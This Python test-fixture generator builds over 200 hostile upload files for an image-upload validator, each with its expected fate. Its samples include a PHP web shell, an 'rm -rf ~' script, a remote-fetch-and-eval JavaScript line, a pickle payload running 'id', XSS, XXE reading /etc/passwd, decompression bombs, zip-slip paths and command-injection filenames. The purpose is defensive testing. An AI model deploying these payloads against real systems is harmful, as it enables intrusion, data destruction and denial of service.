"""More than 200 hostile files, the same bytes every time: what people bring by mistake and what others send on purpose.

    python tests/hostile/make.py FOLDER

writes those whose names a file system takes. Tests take `cases()`: name, bytes, and what must become of each.
"""

from __future__ import annotations

import io
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Literal

from PIL import Image, ImageDraw

Fate = Literal["refused", "photo", "either"]


@dataclass(frozen=True)
class Case:
    """One file.

    Attributes:
        name: as brought; may be a trick itself.
        data: its bytes.
        fate: "refused" with a reason, a valid "photo", or "either" (damage that a decoder may or may not notice).
        code: the verdict's code, where exactly one is right.
    """

    name: str
    data: bytes
    fate: Fate
    code: str = ""


def cases() -> list[Case]:
    """All of them, in a stable order, with distinct names."""
    makers = (
        _truncated, _mutated, _disguised, _polyglots, _huge_headers, _bombs, _names, _zips,
        _bad_metadata, _odd_but_fine, _empty,
    )  # fmt: skip
    return [case for maker in makers for case in maker()]


def picture(size: tuple[int, int] = (96, 80), seed: int = 1, mode: str = "RGB") -> Image.Image:
    """A small picture with edges and texture, so that encoders have something to write."""
    rng = random.Random(seed)
    image = Image.frombytes("RGB", size, bytes(rng.randrange(96, 160) for _ in range(size[0] * size[1] * 3)))
    draw = ImageDraw.Draw(image)
    for _ in range(6):
        x, y = rng.randrange(size[0]), rng.randrange(size[1])
        colour = (rng.randrange(256), rng.randrange(256), rng.randrange(256))
        draw.ellipse((x, y, x + size[0] // 3, y + size[1] // 3), fill=colour)
    return image.convert(mode)


def encoded(kind: str, image: Image.Image | None = None, **options: object) -> bytes:
    """A picture in one of Pillow's formats."""
    buffer = io.BytesIO()
    (image or picture()).save(buffer, kind, **options)
    return buffer.getvalue()


_KINDS = {"JPEG": "jpg", "PNG": "png", "WEBP": "webp", "AVIF": "avif", "TIFF": "tif"}


def _truncated() -> Iterator[Case]:
    for kind, suffix in _KINDS.items():
        data = encoded(kind)
        for share in (0.02, 0.1, 0.3, 0.5, 0.7, 0.9, 0.97):
            # A TIFF keeps its directory at the end; a JPEG may lose only its end mark.
            fate: Fate = "either" if share > 0.9 else "refused"
            yield Case(f"cut-{share:.2f}.{suffix}", data[: int(len(data) * share)], fate)
        yield Case(f"magic-only.{suffix}", data[:12], "refused")


def _mutated() -> Iterator[Case]:
    rng = random.Random(20)
    for kind, suffix in _KINDS.items():
        data = encoded(kind)
        for index in range(12):
            broken = bytearray(data)
            for _ in range(1 + index * 2):
                broken[rng.randrange(len(broken) if index % 2 else min(200, len(broken)))] = rng.randrange(256)
            yield Case(f"mutated-{index}.{suffix}", bytes(broken), "either")
        shuffled = bytearray(data[32:])
        rng.shuffle(shuffled)
        yield Case(f"shuffled.{suffix}", data[:32] + bytes(shuffled), "refused")


_SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script><rect width="9" height="9"/></svg>'
_HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"


def _disguised() -> Iterator[Case]:
    contents = {
        "svg": _SVG,
        "svg-xml": b'<?xml version="1.0"?>' + _SVG,
        "svg-utf16": _SVG.decode().encode("utf-16"),
        "svg-entities": b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "aaaa">]><svg>&a;</svg>',
        "html": _HTML,
        "html-padded": b" " * 200 + _HTML,
        "js": b"fetch('//x').then(r=>r.text()).then(eval)",
        "php": b"<?php system($_GET['c']); ?>",
        "sh": b"#!/bin/sh\nrm -rf ~\n",
        "pdf": b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF",
        "pdf-late": b"\x00" * 100 + b"%PDF-1.4\n",
        "ps": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
        "psd": b"8BPS\x00\x01" + b"\x00" * 6 + struct.pack(">HIIHH", 3, 60000, 60000, 8, 3) + b"\x00" * 64,
        "fits": b"SIMPLE  =                    T / bomb".ljust(80) + b"NAXIS1  =           9999999999".ljust(80),
        "gif": encoded("GIF"),
        "bmp": encoded("BMP"),
        "ico": encoded("ICO"),
        "jp2": encoded("JPEG2000"),
        "tga": encoded("TGA"),
        "pcx": encoded("PCX"),
        "ppm": encoded("PPM"),
        "eps": encoded("EPS"),
        "tar": b"photo.jpg".ljust(257, b"\x00") + b"ustar\x0000" + b"\x00" * 248,
        "gz": b"\x1f\x8b\x08\x00" + b"\x00" * 40,
        "7z": b"7z\xbc\xaf\x27\x1c" + b"\x00" * 40,
        "rar": b"Rar!\x1a\x07\x01\x00" + b"\x00" * 40,
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 60,
        "exe": b"MZ\x90\x00" + b"\x00" * 60,
        "mp4": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + b"\x00" * 40,
        "pickle": b"\x80\x04\x95\x1c\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93\x8c\x02id\x85R.",
        "sqlite": b"SQLite format 3\x00" + b"\x00" * 90,
        "text": b"just some words, not a picture",
        "noise": bytes(random.Random(3).randrange(256) for _ in range(4096)),
        "zeros": b"\x00" * 4096,
    }
    for label, data in contents.items():
        yield Case(f"really-{label}.jpg", data, "refused", "not-a-picture")
    for label in ("svg", "html", "pdf"):
        yield Case(f"really-{label}.png", contents[label], "refused", "not-a-picture")
    for kind, suffix in _KINDS.items():
        other = "png" if suffix != "png" else "jpg"
        yield Case(f"really-{suffix}.{other}", encoded(kind), "photo")
        yield Case(f"{suffix}-named.txt", encoded(kind), "photo")
    yield Case("really-jpg.exe", encoded("JPEG"), "photo")
    yield Case("no-extension", encoded("PNG"), "photo")


def _polyglots() -> Iterator[Case]:
    archive = _zip({"evil.html": _HTML})
    for kind, suffix in _KINDS.items():
        yield Case(f"with-zip-behind.{suffix}", encoded(kind) + archive, "photo")
        yield Case(f"with-html-behind.{suffix}", encoded(kind) + _HTML, "photo")
    jpeg = encoded("JPEG")
    comment = b"\xff\xfe" + struct.pack(">H", len(_HTML) + 2) + _HTML
    yield Case("html-in-comment.jpg", jpeg[:2] + comment + jpeg[2:], "photo")
    yield Case("html-in-text.png", _with_chunk(encoded("PNG"), b"tEXt", b"Comment\x00" + _HTML), "photo")
    yield Case("gif-js.jpg", b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)", "refused", "not-a-picture")
    yield Case("html-then-jpeg.jpg", _HTML + jpeg, "refused", "not-a-picture")
    yield Case("pdf-then-jpeg.jpg", b"%PDF-1.4\n" + jpeg, "refused", "not-a-picture")
    yield Case("zip-then-jpeg.jpg", archive + jpeg, "refused")


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _with_chunk(png: bytes, kind: bytes, data: bytes) -> bytes:
    """A PNG with one more chunk behind its header."""
    return png[:33] + _chunk(kind, data) + png[33:]


def _png(width: int, height: int, rows: bytes = b"", *, depth: int = 8, colour: int = 2) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def _huge_headers() -> Iterator[Case]:
    rows = zlib.compress(b"\x00" * 1000)
    for width, height in ((50_000, 50_000), (2**31 - 1, 1), (1, 2**31 - 1), (100_000, 100_000), (9_000, 9_000)):
        yield Case(f"states-{width}x{height}.png", _png(width, height, rows), "refused")
    yield Case("states-0x0.png", _png(0, 0, rows), "refused")
    yield Case("states-0x9.png", _png(0, 9, rows), "refused")
    jpeg = bytearray(encoded("JPEG"))
    at = jpeg.find(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", 65_500, 65_500)
    yield Case("states-65500x65500.jpg", bytes(jpeg), "refused", "bomb")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", 0, 0)
    yield Case("states-0x0.jpg", bytes(jpeg), "refused")
    for width, height in ((60_000, 60_000), (4_000_000, 20), (0, 5)):
        yield Case(f"states-{width}x{height}.tif", _tiff(width, height), "refused")
    webp = bytearray(b"RIFF\x20\x00\x00\x00WEBPVP8X\x0a\x00\x00\x00\x00\x00\x00\x00")
    webp += (16_777_214).to_bytes(3, "little") + (16_777_214).to_bytes(3, "little")
    yield Case("states-16777215.webp", bytes(webp), "refused")
    avif = encoded("AVIF")
    at = avif.find(b"ispe")
    yield Case("states-60000.avif", avif[: at + 8] + struct.pack(">II", 60_000, 60_000) + avif[at + 16 :], "refused")


def _tiff(width: int, height: int, *, entries: list[tuple[int, int, int, int]] | None = None) -> bytes:
    """A TIFF of one directory whose strip lies nowhere."""
    fields = entries or [
        (256, 4, 1, width), (257, 4, 1, height), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
        (273, 4, 1, 8), (277, 3, 1, 1), (278, 4, 1, max(height, 1)), (279, 4, 1, 100),
    ]  # fmt: skip
    body = b"".join(struct.pack("<HHII", *field) for field in fields)
    return b"II*\x00" + struct.pack("<I", 8) + struct.pack("<H", len(fields)) + body + struct.pack("<I", 0)


def _bombs() -> Iterator[Case]:
    # A few kilobytes that unpack to much more of one colour.
    row = b"\x00" + b"\x7f" * 20_000 * 3
    packer = zlib.compressobj(9)
    rows = b"".join(packer.compress(row) for _ in range(16)) + packer.flush()
    yield Case("bomb-20000x20000.png", _png(20_000, 20_000, rows), "refused", "bomb")
    yield Case("bomb-ztxt.png", _with_chunk(encoded("PNG"), b"zTXt", b"c\x00\x00" + _deflated(24 << 20)), "either")
    yield Case("bomb-itxt.png", _with_chunk(
        encoded("PNG"), b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + _deflated(24 << 20)), "either")  # fmt: skip
    yield Case("bomb-icc.png", _with_chunk(encoded("PNG"), b"iCCP", b"p\x00\x00" + _deflated(24 << 20)), "either")
    loop = bytearray(_tiff(16, 16))
    loop[-4:] = struct.pack("<I", 8)
    yield Case("directory-loop.tif", bytes(loop), "either")
    yield Case("many-tags.tif", _tiff(9, 9, entries=[(256 + i, 4, 2**30, 8) for i in range(200)]), "refused")
    frames = [picture((32, 32), seed=i) for i in range(40)]
    yield Case("forty-frames.webp", encoded("WEBP", frames[0], save_all=True, append_images=frames[1:]), "photo")
    yield Case("forty-pages.tif", encoded("TIFF", frames[0], save_all=True, append_images=frames[1:]), "photo")
    yield Case("forty-frames.png", encoded("PNG", frames[0], save_all=True, append_images=frames[1:]), "photo")


@cache
def _deflated(size: int) -> bytes:
    packer, block = zlib.compressobj(9), b"\x00" * (1 << 20)
    return b"".join(packer.compress(block) for _ in range(size >> 20)) + packer.flush()


def _names() -> Iterator[Case]:
    data = encoded("PNG", picture(seed=7))
    tricks = (
        "photo\u202egpj.exe.png", "line\nbreak.png", "tab\there.png", "carriage\rreturn.png", "nul\x00byte.png",
        "bell\x07.png", "escape\x1b[31mred.png", "x" * 5000 + ".png", "../../etc/passwd.png", "/etc/cron.d/x.png",
        "C:\\Windows\\x.png", "..\\..\\x.png", "CON.png", "aux", "...", ".", "", " ", "<img src=x onerror=a(1)>.png",
        "';DROP TABLE assets;--.png", "$(id).png", "`id`.png", "%2e%2e%2f.png", "a/./b/../c.png", "\ud800lone.png",
        "zero\u200bwidth.png", "e\u0301" * 300 + ".png", "😀.png", "-rf.png", "~.png", "\ufeffbom.png", "a:stream.png",
    )  # fmt: skip
    for index, name in enumerate(tricks):
        # Distinct pictures, so that each stands for itself.
        yield Case(name, data + bytes([index]), "photo")


def _zip(files: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as archive:
        for name, data in files.items():
            archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), data, method)
    return buffer.getvalue()


def _entry(name: str, data: bytes, *, mode: int = 0, flags: int = 0) -> bytes:
    buffer = io.BytesIO()
    info = zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0))
    info.external_attr, info.create_system = mode << 16, 3
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(info, data)
    raw = bytearray(buffer.getvalue())
    if flags:
        raw[6] |= flags
        raw[raw.find(b"PK\x01\x02") + 8] |= flags
    return bytes(raw)


def _zips() -> Iterator[Case]:
    png = encoded("PNG")
    slips = (
        "../evil.png", "../../../../etc/passwd", "/etc/passwd", "C:\\evil.png", "C:evil.png", "..\\evil.png",
        "a/../../evil.png", "\\\\server\\share\\x.png", "CON", "folder/NUL.png", "com1.png", "a/aux.jpg",
    )  # fmt: skip
    for index, name in enumerate(slips):
        yield Case(f"slip-{index}.zip", _entry(name, png), "refused", "path-trick")
    nul = _entry("evil.png#.txt", png).replace(b"evil.png#.txt", b"evil.png\x00.txt")
    yield Case("nul-name.zip", nul, "refused", "path-trick")
    yield Case("link.zip", _entry("photo.png", b"/etc/passwd", mode=0o120777), "refused", "link")
    yield Case("device.zip", _entry("photo.png", b"", mode=0o020666), "refused", "link")
    yield Case("pipe.zip", _entry("photo.png", b"", mode=0o010666), "refused", "link")
    yield Case("encrypted.zip", _entry("photo.png", png, flags=1), "refused", "encrypted")
    inner = _zip({"photo.png": png})
    yield Case("nested.zip", _zip({"inner.zip": inner}), "refused", "nested-zip")
    yield Case("nested-named-jpg.zip", _zip({"inner.jpg": inner}), "refused", "nested-zip")
    for depth in (5, 20):
        deep = inner
        for _ in range(depth):
            deep = _zip({"z.zip": deep})
        yield Case(f"nested-{depth}.zip", deep, "refused", "nested-zip")
    yield Case("ratio.zip", _zip({"photo.png": b"\x00" * (6 << 20)}), "refused", "bomb")
    yield Case("too-large.zip", _stating(61 << 20), "refused", "too-large")
    yield Case("lies-about-size.zip", _stating(100), "refused")
    yield Case("cut.zip", inner[: len(inner) // 2], "refused", "broken-zip")
    yield Case("no-directory.zip", b"PK\x03\x04" + b"\x00" * 60, "refused", "broken-zip")
    yield Case("huge-directory.zip", inner[:-22] + _end_record(inner, directory=0xFFFFFFF0), "refused")
    broken = bytearray(inner)
    broken[60] ^= 0xFF
    yield Case("bad-checksum.zip", bytes(broken), "refused", "broken-zip")
    method = bytearray(inner)
    method[8] = method[method.find(b"PK\x01\x02") + 10] = 99
    yield Case("unknown-method.zip", bytes(method), "refused", "broken-zip")
    yield Case("html-inside.zip", _zip({"photo.jpg": _HTML}), "refused", "not-a-picture")
    yield Case("fine.zip", _zip({"one.png": png, "sub/two.jpg": encoded("JPEG", picture(seed=9))}), "photo")
    yield Case("zip-named.png", _zip({"one.png": encoded("PNG", picture(seed=11))}), "photo")


def _stating(size: int) -> bytes:
    """A zip whose directory states `size` bytes for an entry of 2 MB."""
    raw = bytearray(_zip({"photo.png": b"\x00" * (2 << 20)}))
    at = raw.find(b"PK\x01\x02")
    raw[22:26] = raw[at + 24 : at + 28] = struct.pack("<I", size)
    return bytes(raw)


def _end_record(archive: bytes, *, directory: int) -> bytes:
    end = bytearray(archive[-22:])
    end[12:16] = struct.pack("<I", directory)
    return bytes(end)


def _bad_metadata() -> Iterator[Case]:
    rng = random.Random(5)
    jpeg = encoded("JPEG")
    for index, exif in enumerate((
        b"Exif\x00\x00", b"Exif\x00\x00II*\x00\xff\xff\xff\xff",
        b"Exif\x00\x00MM\x00*\x00\x00\x00\x08\xff\xff" + b"\xff" * 60,
        b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x03\x00\x01\x00\x00\x00\x63\x00\x00\x00",
        b"Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x69\x87\x04\x00\x01\x00\x00\x00\x08\x00\x00\x00\x00\x00\x00\x00",
        b"Exif\x00\x00" + bytes(rng.randrange(256) for _ in range(300)),
    )):  # fmt: skip
        segment = b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif
        yield Case(f"bad-exif-{index}.jpg", jpeg[:2] + segment + jpeg[2:], "photo")
    for index, profile in enumerate((b"", b"acsp", b"\x00" * 128, bytes(rng.randrange(256) for _ in range(3000)))):
        for kind in ("JPEG", "PNG", "WEBP"):
            yield Case(f"bad-icc-{index}.{_KINDS[kind]}", encoded(kind, icc_profile=profile), "photo")
    yield Case("bad-icc-cmyk.jpg", encoded("JPEG", picture(mode="CMYK"), icc_profile=b"\x01" * 500), "photo")
    xmp = b'<?xpacket?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x:xmpmeta>&a;</x:xmpmeta>'
    segment = b"http://ns.adobe.com/xap/1.0/\x00" + xmp
    packed = b"\xff\xe1" + struct.pack(">H", len(segment) + 2) + segment
    yield Case("xmp-entity.jpg", jpeg[:2] + packed + jpeg[2:], "photo")
    yield Case("bad-crc.png", encoded("PNG")[:29] + b"\x00\x00\x00\x00" + encoded("PNG")[33:], "refused")


def _odd_but_fine() -> Iterator[Case]:
    kinds = {
        "PNG": ("L", "LA", "P", "1", "RGBA", "I;16"),
        "TIFF": ("CMYK", "LAB", "F", "I"),
        "JPEG": ("L", "CMYK"),
        "WEBP": ("RGBA",),
        "AVIF": ("RGBA",),
    }
    for kind, mode in ((kind, mode) for kind, modes in kinds.items() for mode in modes):
        image = _lab() if mode == "LAB" else picture(mode="L" if mode == "I;16" else mode).convert(mode)
        yield Case(f"mode-{mode.replace(';', '')}.{_KINDS[kind]}", encoded(kind, image), "photo")
    yield Case("one-pixel.png", encoded("PNG", picture((1, 1))), "photo")
    yield Case("one-row.png", encoded("PNG", picture((900, 1))), "photo")
    yield Case("one-column.jpg", encoded("JPEG", picture((1, 900))), "photo")
    yield Case("white.png", encoded("PNG", Image.new("RGB", (64, 64), "white")), "photo")
    yield Case("see-through.png", encoded("PNG", Image.new("RGBA", (64, 64), (0, 0, 0, 0))), "photo")


def _lab() -> Image.Image:
    bands = [picture(seed=i, mode="L") for i in range(3)]
    return Image.merge("LAB", bands)


def _empty() -> Iterator[Case]:
    for suffix in (*_KINDS.values(), "zip", "heic"):
        yield Case(f"empty.{suffix}", b"", "refused", "empty")
    yield Case("one-byte.jpg", b"\xff", "refused")
    yield Case("empty-archive.zip", b"PK\x05\x06" + b"\x00" * 18, "refused")
    yield Case("fake.heic", b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 64, "refused")


def write(folder: Path) -> int:
    """Write what a file system takes; how many that were."""
    folder.mkdir(parents=True, exist_ok=True)
    written = 0
    for case in cases():
        try:
            plain = case.name.strip(". ") and "/" not in case.name
            if plain:
                (folder / case.name).write_bytes(case.data)
                written += 1
        except (OSError, ValueError):
            continue  # a name that this file system refuses is no attack by file system
    return written


if __name__ == "__main__":
    print(write(Path(sys.argv[1])), "files")
